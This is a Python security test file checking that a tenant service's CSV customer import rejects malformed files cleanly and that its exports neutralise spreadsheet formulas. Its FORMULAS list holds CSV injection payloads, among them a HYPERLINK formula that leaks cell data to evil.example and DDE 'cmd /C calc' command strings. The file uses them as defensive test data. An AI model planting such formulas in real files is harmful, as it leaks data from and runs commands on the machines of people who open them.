"""CSV files as an attacker would use them: a tenant admin imports files built to break the parser (cells nested
past any parser's recursion, huge cells, NUL, broken quoting, a BOM, text that is not UTF-8), and stores customers
whose cells a spreadsheet would run as formulas, hoping the operator opens an export of them.

An import never gets a server error, and every refusal names the line (and the column, for a cell). An export
never holds a cell a spreadsheet would run, nor a control character, and reads back as it was."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from functions.common.csv_cells import FORMULA_STARTS, TEXT_MARK, would_run
from functions.tenant_config import customer_files
from sbctl.cli import main
from tests.fixtures.aws import TABLE_NAME
from tests.fixtures.tenant_api import TenantClient, tenant_api_transport
from tests.security.conftest import VICTIM

ATTACKER = VICTIM  # a tenant admin, attacking whoever opens its customers in a spreadsheet
BASE = "https://abc123.execute-api.eu-west-1.amazonaws.com"
COLUMNS = ["phone", "customer_id", "name", "segment", "prompt_override", "prompt_addendum", "variables", "var.city"]
NESTED_CELL = "phone,variables\n+14155550100," + "[" * 5000 + "\n"  # a cell that once answered 500
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your invoice")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\u00a0@SUM(A1)",
]


def import_csv(text: str | bytes) -> tuple[int, dict[str, Any]]:
    raw = text if isinstance(text, bytes) else json.dumps({"csv": text}).encode()
    headers = {"content-type": "application/json"}
    status, _, out = tenant_api_transport(ATTACKER, "admin")("POST", BASE + "/tenant/v1/customers/import", headers, raw)
    return status, json.loads(out)


def sbctl(*argv: str, aws: dict[str, Any]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    argv = ("--operator", "--table", TABLE_NAME, "--actor", "operator", *argv)
    code = main(list(argv), out=out, err=err, clients={"dynamodb": aws["dynamodb"]})
    return code, out.getvalue(), err.getvalue()


def test_a_cell_nested_5000_deep_is_refused_naming_its_line_and_column(
    demo_tenant: str, tenant_api_env: dict[str, Any]
) -> None:
    text = "phone,name,variables\n+14155550177,Ana,{}\n+14155550178,Bo," + "[" * 5000 + "\n"
    status, answer = import_csv(text)
    assert status == 400, answer
    assert list(answer["fields"]) == ["line 3"]
    (problem,) = answer["fields"]["line 3"]
    assert problem.startswith("variables must not nest more than 32 levels deep")
    assert "line 3" in answer["message"] and "nothing was imported" in answer["message"]
    # and the operator's own import of the same file says the same, instead of crashing
    good, bad = customer_files.parse_rows(customer_files.read_csv(text))
    assert [row.line for row in bad] == [3] and len(good) == 1


cells = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"]), max_size=12),
    st.sampled_from([*FORMULAS, "+14155550100", "'+14155550100", "email:ana@example.com", "", "\x00", "\ufeff"]),
    st.one_of(st.sampled_from([31, 32, 33, 1000, 5000]), st.integers(0, 5000)).map(lambda n: "[" * n),
    st.integers(0, 60).map(lambda n: '{"a":' * n + '"x"' + "}" * n),
    st.sampled_from(['{"city": "Brooklyn"}', '{"city": 5}', "[1, 2]", "NaN", '{"a": {"b": "c"}}', '"x"']),
    st.integers(1, 140_000).map(lambda n: "x" * n),
)


@st.composite
def csv_texts(draw: st.DrawFn) -> str:
    header = draw(
        st.one_of(
            st.just(["phone", "variables", "name"]),
            st.lists(st.sampled_from([*COLUMNS, "bogus", "=cmd", "var.bad name"]), min_size=1, max_size=5),
        )
    )
    rows = draw(st.lists(st.lists(cells, max_size=6), max_size=4))
    if draw(st.booleans()):
        stream = io.StringIO()
        csv.writer(stream, lineterminator=draw(st.sampled_from(["\n", "\r\n"]))).writerows([header, *rows])
        text = stream.getvalue()
    else:  # quoting left to chance: stray and unclosed quotes, separators inside cells
        text = "\n".join(",".join(row) for row in [header, *rows])
    return ("\ufeff" if draw(st.booleans()) else "") + text


def assert_refusal_in_words(answer: dict[str, Any]) -> None:
    assert isinstance(answer["message"], str) and answer["message"]
    for where, problems in answer["fields"].items():
        assert where in ("csv", "body") or where.startswith("line "), where
        assert problems and all(isinstance(p, str) and p and "Traceback" not in p for p in problems)


@settings(
    max_examples=200,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(text=csv_texts(), not_utf8=st.booleans())
@example(text=NESTED_CELL, not_utf8=False)
def test_no_csv_file_ever_gets_a_server_error(
    text: str, not_utf8: bool, demo_tenant: str, tenant_api_env: dict[str, Any]
) -> None:
    body = json.dumps({"csv": text}, ensure_ascii=False).encode()
    status, answer = import_csv(body[:-2] + b"\xff" + body[-2:] if not_utf8 else body)
    assert status in (200, 400, 413, 422), answer
    if status != 200:
        assert_refusal_in_words(answer)


@settings(max_examples=400, suppress_health_check=[HealthCheck.data_too_large])
@given(text=csv_texts())
@example(text=NESTED_CELL)
def test_reading_any_csv_gives_rows_and_their_problems_or_a_file_problem_never_an_error(text: str) -> None:
    # the operator's import (sbctl) reads files with the same functions
    try:
        rows = customer_files.read_csv(text)
    except customer_files.FileProblem as problem:
        assert problem.line >= 1 and problem.message
        return
    good, bad = customer_files.parse_rows(rows, in_words=True)
    assert len(good) + len(bad) == len(rows)
    for row in bad:
        assert row.line >= 2 and row.problems and all(isinstance(p, str) and p for p in row.problems)


def test_an_export_of_a_tenants_customers_runs_nothing_in_a_spreadsheet_and_reads_back(
    demo_tenant: str, tenant_api_env: dict[str, Any], tmp_path: Path
) -> None:
    aws = tenant_api_env
    attacker = TenantClient(ATTACKER, "admin")
    # Given customers whose every cell is a formula (or hides one behind spaces, quotes or a tab), with a NUL
    variables = {f"v{n}": formula for n, formula in enumerate(FORMULAS)} | {"discount": "-10%", "nul": "a\x00b"}
    stored = {
        "name": FORMULAS[0],
        "segment": "@SUM(1+1)",
        "prompt_addendum": "=1+1 is what the caller asks about",
        "variables": variables,
    }
    status, answer, _ = attacker.put("/customers/%2B14155550111", stored, create=True)
    assert status == 201, answer

    # When the operator exports them
    code, exported, err = sbctl("customers", "export", "--tenant", ATTACKER, aws=aws)
    assert code == 0, err

    # Then no cell would run, and no control character is left
    table = list(csv.reader(io.StringIO(exported, newline="")))
    attacks = [cell for row in table for cell in row if would_run(cell) and not cell.startswith(TEXT_MARK)]
    assert attacks == []
    assert not [cell for row in table for cell in row if any(ord(c) < 32 and c not in "\t\n\r" for c in cell)]
    assert any(cell.startswith(TEXT_MARK) and cell[1:2] in FORMULA_STARTS for row in table for cell in row)

    # and importing the export gives back what was stored (the NUL aside), phone numbers included
    target = tmp_path / "export.csv"
    target.write_text(exported, encoding="utf-8")
    code, _, err = sbctl("customers", "import", "--tenant", "copy", str(target), aws=aws)
    assert code == 0, err
    code, copied, err = sbctl("customers", "export", "--tenant", "copy", aws=aws)
    assert code == 0, err
    assert copied == exported
    code, shown, _ = sbctl("customers", "get", "--tenant", "copy", "+14155550111", aws=aws)
    assert code == 0 and "+14155550111" in shown
    for customer_id in ("+14155550100", "+14155550123"):  # the tenant's own customers, phone numbers kept
        assert sbctl("customers", "get", "--tenant", "copy", customer_id, aws=aws)[0] == 0


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_any_column_is_made_text_and_reads_back(formula: str) -> None:
    from functions.tenant_config.models import Customer

    customer = Customer(customer_id="+14155550112", name=formula, segment=formula[:60], variables={"x": formula})
    stream = io.StringIO()
    customer_files.write_csv([customer], stream)
    (row,) = customer_files.read_csv(stream.getvalue())
    ((_, back),) = customer_files.parse_rows([row])[0]
    assert back == customer
